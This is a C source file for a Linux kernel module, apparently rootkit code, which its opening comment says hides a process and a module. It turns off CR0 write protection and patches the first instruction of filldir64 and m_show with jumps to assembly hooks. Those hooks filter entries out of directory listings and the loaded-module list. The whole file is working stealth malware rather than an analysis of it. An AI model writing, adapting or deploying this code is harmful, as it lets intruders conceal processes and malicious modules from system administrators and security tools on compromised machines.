/* Hides a process and a module by patching the first instruction of the kernel functions that list them. */
#include "hook.h"

void entry_hook(void);
void module_hook(void);
unsigned long entry_rest, module_rest;

#define SAVE "push %rdi; push %rsi; push %rdx; push %rcx; push %r8; push %r9; sub $8, %rsp;"
#define BACK "add $8, %rsp; pop %r9; pop %r8; pop %rcx; pop %rdx; pop %rsi; pop %rdi; test %al, %al;"
asm(".text\n"
    "entry_hook:" SAVE "mov %rsi, %rdi; mov %edx, %esi; call hidden_entry;" BACK
    "jnz 1f; jmp *entry_rest(%rip); 1: mov $1, %eax; ret; int3\n"
    "module_hook:" SAVE "mov %rsi, %rdi; call hidden_module;" BACK
    "jnz 1f; jmp *module_rest(%rip); 1: xor %eax, %eax; ret; int3\n");

static int patch(const char *name, void (*hook)(void), unsigned long *rest)
{
    unsigned long at = symbol(name), flags, cr0;
    unsigned char jump[5] = { 0xe9 };

    if (!at)
        return -ENOENT;
    /* The five bytes there are the tracer's no-operation: nothing has to be moved. */
    *rest = at + 5;
    *(int *)(jump + 1) = (unsigned long)hook - *rest;
    local_irq_save(flags);
    asm volatile("mov %%cr0, %0" : "=r"(cr0));
    asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000ul) : "memory");
    memcpy((void *)at, jump, sizeof jump);
    asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
    local_irq_restore(flags);
    return 0;
}

static int __init start(void)
{
    int failed = patch("filldir64", entry_hook, &entry_rest);
    return failed ? failed : patch("m_show", module_hook, &module_rest);
}
module_init(start);
